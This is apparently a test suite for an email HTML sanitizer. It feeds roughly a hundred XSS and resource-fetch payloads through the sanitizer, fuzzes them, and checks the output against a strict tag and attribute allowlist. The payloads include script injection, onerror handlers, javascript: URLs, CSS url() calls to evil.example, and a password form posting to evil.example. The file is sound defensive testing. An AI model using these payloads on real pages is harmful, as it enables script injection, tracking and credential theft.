import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '#test/property.ts';
import { realData } from '../transfer/test-data.ts';
import { frameDocument } from './frame.ts';
import { parse } from './parse.ts';
import { cleanHtml } from './safe-html.ts';
import { unpackAllMails } from './test-mails.ts';

const clean = (html: string) => cleanHtml(html).html;

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="&#106;avascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.example/a.png">',
  '<img src="https://evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/a">',
  '<image src="https://evil.example/a.png">',
  '<picture><source srcset="https://evil.example/a.png"></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<applet code="x">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<isindex action="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://example.com" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a id=x name=y class=z href=https://example.com target=_top>x</a>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=dns-prefetch href="//evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example)">x</div>',
  '<div style="background-color:red;b\\61ckground:u/**/rl(//evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:99999px;height:99999px;z-index:9">x</div>',
  '<div style="margin-left:-5000px">x</div>',
  '<div style="color:red\';background:url(//evil.example)">x</div>',
  '<div style="font-family:x\'&quot;><img src=x onerror=alert(1)>">x</div>',
  '<div style="color:var(--x);content:attr(title)">x</div>',
  '<p style="list-style:url(https://evil.example)">x</p>',
  '<table background="https://evil.example/a.png"><tr><td background="https://evil.example">x</table>',
  '<body background="https://evil.example/a.png" onload=alert(1)>x</body>',
  '<bgsound src="https://evil.example/a.wav">',
  '<audio src="https://evil.example/a" autoplay></audio><video poster="https://evil.example/a"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<xss onmouseover=alert(1)>x</xss>',
  '<p onmouseover\u000b=alert(1)>x</p>',
  '<p/onclick=alert(1)>x',
  '<p title="a" title=\'"><script>alert(1)</script>\'>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>',
  '<html xmlns:v="urn:schemas-microsoft-com:vml"><v:shape onload=alert(1)></html>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0338<script>alert(1)</script></p>',
  '<a href="https://example.com&quot; onclick=&quot;alert(1)">x</a>',
  '<img src="cid:x&quot; onerror=&quot;alert(1)">',
  '<img alt="&quot; onerror=alert(1) x=&quot;" src=https://evil.example/>',
  '<custom-element is="x"></custom-element><slot></slot>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open><form method=dialog></dialog>',
  '<area href="javascript:alert(1)"><map name=x></map>',
  '<video><source onerror=alert(1)></video>',
];

test(`nothing runs, is fetched or is sent, in ${hostile.length} mails made to do so`, () => {
  assert.ok(hostile.length >= 60);
  for (const html of hostile) harmless(clean(html), html);
  harmless(clean(hostile.join('')), 'all together');
});

test('what the fuzzer makes of them', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&lt;',
      '`',
      '<!--',
      '-->',
      '<p ',
      '</',
      ' style="',
      ' src=',
      ' href="',
      '\0',
      '&#',
      'cid:',
    ),
    fc.string({ maxLength: 10 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), fc.nat(40), (pieces, cut) => {
      const html = pieces.map((text, at) => (at % 3 === 0 ? text.slice(cut % (text.length + 1)) : text)).join('');
      const once = clean(html);
      harmless(once, html);
      harmless(clean(once), once);
    }),
    { numRuns: 600 },
  );
});

test('a mail still looks like itself', () => {
  assert.equal(
    clean(
      '<p style="color:#333;font-family:\'Segoe UI\',Arial;position:absolute;margin:0 0 10px">Hello <b>you</b></p>',
    ),
    '<p style="color:#333;font-family:\'Segoe UI\',Arial;margin:0 0 10px">Hello <b>you</b></p>',
  );
  assert.equal(
    clean(
      '<table width="100%" cellpadding="4" bgcolor="#ffffff"><tr><td colspan="2" align="center" onclick="x">a</td></tr></table>',
    ),
    '<table bgcolor="#ffffff" width="100%" cellpadding="4"><tr><td align="center" colspan="2">a</td></tr></table>',
  );
  assert.equal(
    clean('<html><head><title>Offer</title><style>p{color:red}</style></head><body>a &amp; b</body></html>'),
    'a &amp; b',
  );
});

test('links say where they lead', () => {
  const link = clean('<a href="https://evil.example/x" title="y">https://bank.example</a>');
  assert.equal(
    link,
    '<a href="https://evil.example/x" target="_blank" rel="noopener noreferrer nofollow" data-host="evil.example" data-misleading="true">https://bank.example</a>',
  );
  for (const words of ['www.example.com', 'our shop', 'shop.example.com/offer', 'Offer no. 3.5'])
    assert.doesNotMatch(clean(`<a href="https://example.com/a">${words}</a>`), /misleading/, words);
  assert.match(
    clean('<a href="https://bank.example@evil.example/">x</a>'),
    /href="https:\/\/evil\.example\/".*data-host="evil\.example"/,
  );
  assert.match(clean('<a href="https://bаnk.example">x</a>'), /data-host="xn--/, 'letters of another script show');
  assert.match(clean('<a href="mailto:ana@example.com?bcc=x@y.z">x</a>'), /href="mailto:ana@example\.com"/);
});

test('pictures: of the mail, from elsewhere, and those that only count', () => {
  const html =
    '<img src="cid:logo%40x" alt="Logo"><img src="cid:gone"><img src="https://shop.example/a.png?u=1" width="200"><img src="https://shop.example/open.gif" width="1" height="1"><img src="https://shop.example/b" style="display:none">';
  const kept = cleanHtml(html, { inline: (id) => (id === 'logo@x' ? '/api/files/1' : null) });
  assert.equal(
    kept.html,
    '<img alt="Logo" src="/api/files/1" /><img /><img width="200" data-remote="https://shop.example/a.png?u=1" /><span></span><span></span>',
  );
  assert.deepEqual([kept.remoteImages, kept.trackers], [1, 2]);
  const shown = cleanHtml(html, { remote: (url) => `/api/mail-image?url=${encodeURIComponent(url)}` });
  assert.match(shown.html, /src="\/api\/mail-image\?url=https%3A%2F%2Fshop\.example%2Fa\.png%3Fu%3D1"/);
  assert.equal(shown.remoteImages, 0);
  assert.match(frameDocument('<p>x</p>'), /default-src 'none'/);
});

test('long and deep mails do not take long', () => {
  for (const html of [
    '<div>'.repeat(200_000),
    '<p '.repeat(200_000),
    `<p style="${'color:red;'.repeat(100_000)}">x`,
    '<a href="https://a.b">x'.repeat(20_000),
    '&'.repeat(1_000_000),
  ]) {
    const start = process.cpuUsage();
    clean(html);
    const { user, system } = process.cpuUsage(start);
    assert.ok((user + system) / 1_000 < 3_000, `${html.slice(0, 20)}: ${(user + system) / 1_000} ms`);
  }
});

test('the mails of the corpora', { skip: realData.skip }, async () => {
  let seen = 0;
  for (const [path, raw] of unpackAllMails()) {
    const { html } = await parse(raw);
    if (html === null) continue;
    seen++;
    harmless(clean(html), path);
  }
  assert.ok(seen > 20, `only ${seen} have HTML`);
});

const TAGS = new Set(
  'p br hr div span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd a img strong b em i u s strike del ins sub sup small big font code pre tt blockquote center table caption colgroup col thead tbody tfoot tr th td q abbr'.split(
    ' ',
  ),
);
const ATTRIBUTES =
  /^(?:style|dir|lang|align|valign|bgcolor|color|face|size|title|width|height|href|target|rel|data-host|data-misleading|src|alt|data-remote|border|cellpadding|cellspacing|colspan|rowspan|nowrap|span|start|type)$/;

/** Reads what came out with the strictest eyes: every `<` begins a known tag whose attributes are known and quoted. */
function harmless(html: string, from: string): void {
  const said = `${from}\n→ ${html}`;
  for (const { 0: all, index } of html.matchAll(/<[^>]*>?/g)) {
    const tag = /^<\/?([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)( \/)?>$/.exec(all);
    assert.ok(tag, `not a plain tag at ${index}: ${all}\n${said}`);
    assert.ok(TAGS.has(tag[1]!), `<${tag[1]}>\n${said}`);
    for (const [, name, value] of tag[2]!.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      assert.match(name!, ATTRIBUTES, said);
      if (name === 'href') assert.match(value!, /^(?:https?:\/\/|mailto:|tel:)/, said);
      if (name === 'src') assert.match(value!, /^data:image\/(?:png|jpe?g|gif|webp);base64,/i, said);
      if (name === 'data-remote') assert.match(value!, /^https?:\/\//, said);
      if (name === 'style')
        assert.doesNotMatch(value!, /url|expression|import|position|\\|\/\*|@|-moz|behavior|var\(/i, said);
    }
  }
}
